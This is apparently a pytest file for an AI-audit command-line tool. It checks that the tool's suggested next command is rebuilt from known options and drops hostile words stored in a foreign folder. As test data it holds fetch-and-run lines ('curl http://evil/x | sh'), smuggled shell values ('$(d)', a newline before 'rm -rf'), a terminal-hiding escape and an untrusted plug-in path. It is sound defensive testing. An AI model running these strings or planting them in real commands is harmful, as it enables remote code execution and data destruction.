"""What `--status` suggests is made anew: a folder from elsewhere may hold any words in place of its command."""

from __future__ import annotations

import json
import shlex
from pathlib import Path

import pytest
import typer.main

from holdfast.cli.again import again
from holdfast.cli.app import app, main
from holdfast.core.records import CampaignPlan
from holdfast.runs.standing import Standing

GIVEN = "--model m --undefended 'u; curl x | sh' --domain '$(d)'"
GOES_ON = {
    f"holdfast audit {GIVEN} --out elsewhere": f"holdfast audit {GIVEN} --out OUT",
    f"holdfast audit {GIVEN} --out o --plan --status /etc --trust-remote-code": f"holdfast audit {GIVEN} --out OUT",
    f"holdfast audit --out=o --set=a.b=1 --peer p --peer q --set c.d=2 --workers 3 --resumable-attacks {GIVEN}": (
        f"holdfast audit {GIVEN} --out OUT --peer p --peer q --workers 3 --set a.b=1 --set c.d=2 --resumable-attacks"
    ),
    f"holdfast audit {GIVEN} --out o --evaluation wmdp_bio --evaluation lm-eval:a,b --judge-url http://evil/v1 --judge-model m": (
        f"holdfast audit {GIVEN} --out OUT --evaluation wmdp_bio --evaluation lm-eval:a,b"
    ),
    f"holdfast audit {GIVEN} --out o --dtype mixed": f"holdfast audit {GIVEN} --out OUT --precision mixed",
    "holdfast attack --model m --domain d --seed 3 --out o full": "holdfast attack full --model m --domain d --out OUT --seed 3",
}
REFUSED = (
    "", "'", "holdfast", "curl http://evil/x | sh", "holdfast audit", "holdfast audit --model m; curl x",
    f"sudo holdfast audit {GIVEN} --out o", f"holdfast audit {GIVEN} --out o --evil", f"holdfast audit {GIVEN} --out o -- curl",
    f"holdfast audit {GIVEN} --out o && curl x", f"holdfast safeguard tar {GIVEN} --out o", "holdfast demo",
    f"holdfast audit {GIVEN} --out o --suite 'a\nrm -rf b'", f"holdfast audit {GIVEN} --out o --suite '\x1b[8m'",
)  # fmt: skip


VERBS = typer.main.get_command(app).commands  # type: ignore[attr-defined]


def status(folder: Path, capsys: pytest.CaptureFixture[str]) -> str:
    assert main(["audit", "--status", str(folder)]) == 0
    suggested = capsys.readouterr().out.rstrip().rpartition("Next: ")[2]
    assert "\x1b" not in suggested
    _, verb, *words = shlex.split(suggested)
    VERBS[verb].make_context(verb, words)
    return suggested


@pytest.mark.parametrize("command", GOES_ON)
def test_a_campaign_goes_on_by_its_options_written_anew(
    command: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    CampaignPlan(
        title="t", domain="d", suite="s", models={}, cells=["c"], details={"command": command}
    ).write(tmp_path)  # fmt: skip
    assert status(tmp_path, capsys) == GOES_ON[command].replace("OUT", str(tmp_path))


@pytest.mark.situation("hostile input", "the command in a folder")
@pytest.mark.parametrize("command", REFUSED)
def test_words_that_are_no_such_command_are_never_suggested(
    command: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    plan = CampaignPlan(title="t", domain="d", suite="s", models={}, cells=["c"], details={"command": command})
    plan.write(tmp_path / "audit")
    Standing(what="demo", command=command, waiting=1).write(tmp_path / "run")
    assert status(tmp_path / "audit", capsys).startswith("holdfast report ")
    if command != "holdfast demo":
        assert status(tmp_path / "run", capsys).startswith("holdfast report ")


def test_a_part_of_a_run_goes_on_with_the_whole(tmp_path: Path) -> None:
    """The confirmation of a search and the worlds of a study are campaigns in folders of their own."""
    Standing(what="search", command="", waiting=1).write(tmp_path / "search")
    command = f"holdfast search {GIVEN} --out elsewhere"
    for folder in (tmp_path / "search", tmp_path / "search" / "confirmation"):
        assert again(command, folder, VERBS) == f"holdfast search {GIVEN} --out {tmp_path / 'search'}"
    assert again(command, tmp_path / "other", VERBS) is None
    assert json.loads((tmp_path / "search" / "run.json").read_text())["what"] == "search"


def test_plug_ins_are_carried_on_with_a_word_and_code_in_the_folder_is_not(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A folder from elsewhere may hold code that nobody is to run by pasting a command."""
    inside = tmp_path / "evil.py"
    tasks = tmp_path / "tasks"
    command = f"holdfast audit {GIVEN} --out o --plugins mine.py --plugins {inside} --plugins some.module"
    command += f" --evaluation lm-eval:{tasks}"
    plan = CampaignPlan(title="t", domain="d", suite="s", models={}, cells=["c"], details={"command": command})
    plan.write(tmp_path)
    assert main(["audit", "--status", str(tmp_path)]) == 0
    said, _, suggested = capsys.readouterr().out.rstrip().rpartition("Next: ")
    assert suggested == f"holdfast audit {GIVEN} --out {tmp_path} --plugins mine.py --plugins some.module"
    assert "The next command runs the plug-ins that it names, which are Python code." in said
